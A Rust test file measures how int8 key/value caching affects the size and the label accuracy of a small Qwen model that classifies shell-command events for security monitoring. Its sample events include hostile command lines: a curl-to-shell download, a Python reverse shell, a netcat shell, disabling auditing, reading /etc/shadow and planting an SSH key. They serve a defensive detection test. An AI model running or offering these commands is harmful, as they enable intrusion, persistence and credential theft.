//! What int8 keys and values cost on the real 0.5B model: size and accuracy.

#![expect(
    clippy::unwrap_used,
    reason = "helpers of tests, outside the test functions"
)]

mod common;

use std::path::Path;

use inwarden_inference::{KeyValueForm, LabelRequest, LoadOptions, Normalization, Qwen2, TokenId};

const MODEL: &str = "qwen2.5-coder-0.5b-instruct-q4_k_m";

const LABELS: [&str; 4] = ["benign", "suspicious", "malicious", "unknown"];

const BEFORE_LABEL: &str = "<|im_end|>\n<|im_start|>assistant\n{\"verdict\":\"";

const EVENTS: [&str; 20] = [
    r#"argv: ["ls","-la","/srv/www"]"#,
    r#"argv: ["tar","czf","/backup/etc-2026-03-01.tar.gz","/etc"]"#,
    r#"argv: ["sh","-c","curl -fsSL http://198.51.100.23/i.sh | sh"]"#,
    r#"argv: ["bash","-i"]"#,
    r#"argv: ["systemctl","restart","nginx.service"]"#,
    r#"argv: ["python3","-c","import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"]"#,
    r#"argv: ["git","fetch","--prune","origin"]"#,
    r#"argv: ["auditctl","-e","0"]"#,
    r#"argv: ["cat","/etc/shadow"]"#,
    r#"argv: ["apt-get","install","-y","libssl-dev"]"#,
    r#"argv: ["find","/","-perm","-4000","-type","f"]"#,
    r#"argv: ["psql","-U","app","-c","select count(*) from orders"]"#,
    r#"argv: ["sh","-c","echo ssh-ed25519 AAAAC3Nz ops@laptop >> /root/.ssh/authorized_keys"]"#,
    r#"argv: ["node","/srv/app/server.js","--port","8080"]"#,
    r#"argv: ["nc","-lvnp","9001","-e","/bin/sh"]"#,
    r#"argv: ["chmod","+x","/tmp/.x/.../kworker"]"#,
    r#"argv: ["rsync","-a","--delete","/var/lib/app/","backup.internal.example:/vol/app/"]"#,
    r#"argv: ["base64","-d","/dev/shm/p","-o","/dev/shm/q"]"#,
    r#"argv: ["cargo","build","--release","--locked"]"#,
    r#"argv: ["crontab","-l"]"#,
];

/// The size of the prefix in bytes, and each event's probabilities of the labels.
fn judge(file: &Path, form: KeyValueForm) -> (usize, Vec<Vec<f64>>) {
    let options = LoadOptions {
        threads: 2.try_into().unwrap(),
        key_value_form: Some(form),
        ..LoadOptions::default()
    };
    let model = Qwen2::load(&[file.to_owned()], &options).unwrap();
    let encode = |text: &str| model.tokenizer().encode_text(text).unwrap();
    let prompt = concat!(env!("CARGO_MANIFEST_DIR"), "/../../benches/data/prefix.txt");
    let prompt = std::fs::read_to_string(prompt).unwrap();
    let prefix = model.tokenizer().encode_prompt(&prompt).unwrap();
    let prefix = model.prefix(&prefix).unwrap();
    let end = model.tokenizer().encode_prompt(BEFORE_LABEL).unwrap();
    let events: Vec<Vec<TokenId>> = EVENTS
        .iter()
        .map(|event| [encode(event), end.clone()].concat())
        .collect();
    let labels: Vec<Vec<TokenId>> = LABELS.iter().map(|label| encode(label)).collect();
    let labels = model
        .prepare_labels(&labels, Normalization::WholeVocabulary)
        .unwrap();
    let requests: Vec<LabelRequest<'_>> = events
        .iter()
        .map(|suffix| LabelRequest {
            prefix: &prefix,
            suffix,
            labels: &labels,
            hidden: None,
        })
        .collect();
    let scores = model.score_labels_batch(&requests).unwrap();
    let probabilities = scores.iter().map(|scores| {
        let weights = scores.log_probabilities.iter().map(|x| x.exp());
        let sum: f64 = weights.clone().sum();
        weights.map(|weight| weight / sum).collect()
    });
    (prefix.size_bytes(), probabilities.collect())
}

/// The mean divergence over the labels in nats, and the root mean square of the
/// differences of the log-odds of malicious against benign.
fn differences(from: &[Vec<f64>], to: &[Vec<f64>]) -> [f64; 2] {
    let (mut divergence, mut squares) = (0.0, 0.0);
    for (p, q) in from.iter().zip(to) {
        divergence += p.iter().zip(q).map(|(p, q)| p * (p / q).ln()).sum::<f64>();
        let log_odds = |p: &[f64]| (p[2] / p[0]).ln();
        squares += (log_odds(p) - log_odds(q)).powi(2);
    }
    let n = from.len() as f64;
    [divergence / n, (squares / n).sqrt()]
}

#[test]
fn int8_halves_a_prefix_and_changes_little() {
    let Some(dir) = common::model_dir(MODEL) else {
        return;
    };
    let file = dir.join(format!("{MODEL}.gguf"));
    let forms = [KeyValueForm::F32, KeyValueForm::Bf16, KeyValueForm::Int8];
    let [(_, exact), (bf16_bytes, bf16), (int8_bytes, int8)] = forms.map(|form| judge(&file, form));
    let [of_bf16, of_int8, between] =
        [(&exact, &bf16), (&exact, &int8), (&bf16, &int8)].map(|(a, b)| differences(a, b));
    eprintln!("prefix: bf16 {bf16_bytes} bytes, int8 {int8_bytes}");
    for (name, [divergence, log_odds]) in [
        ("bf16 from f32", of_bf16),
        ("int8 from f32", of_int8),
        ("int8 from bf16", between),
    ] {
        eprintln!("{name}: {divergence:.6} nats, log-odds {log_odds:.4} RMS");
    }
    assert!(int8_bytes * 100 < bf16_bytes * 54);
    assert!(between[0] < 0.005 && between[1] < 0.2, "{between:?}");
}
